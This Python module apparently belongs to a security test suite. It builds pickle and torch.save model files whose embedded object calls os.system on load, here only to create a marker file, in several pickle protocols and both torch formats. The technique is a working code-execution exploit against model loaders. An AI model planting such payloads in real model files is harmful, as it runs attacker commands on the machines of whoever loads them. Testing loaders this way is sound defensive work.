"""REDUCE calls os.system: the oldest attack, in every container that holds a pickle."""

import os
import pickle
from io import BytesIO
from pathlib import Path
from typing import Any

import torch

from attacks.attack import Attack, main


class Runs:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def content(marker: Path) -> dict[str, Any]:
    """A state_dict, and an object that runs a command."""
    return {"state_dict": {"conv.weight": torch.ones(2, 2, 3, 3)}, "hook": Runs(f"touch {marker}")}


def saved(marker: Path, *, zipped: bool) -> bytes:
    """A file of torch.save."""
    buffer = BytesIO()
    torch.save(content(marker), buffer, _use_new_zipfile_serialization=zipped)
    return buffer.getvalue()


ATTACKS = [
    Attack("a command in a file of torch.save", lambda marker: saved(marker, zipped=True)),
    Attack("a command in a file of torch's legacy format", lambda marker: saved(marker, zipped=False)),
    *(
        Attack(f"a command in a pickle of protocol {protocol}", lambda marker, p=protocol: pickle.dumps(content(marker), p))
        for protocol in range(2, 6)
    ),
]

if __name__ == "__main__":
    main(ATTACKS)
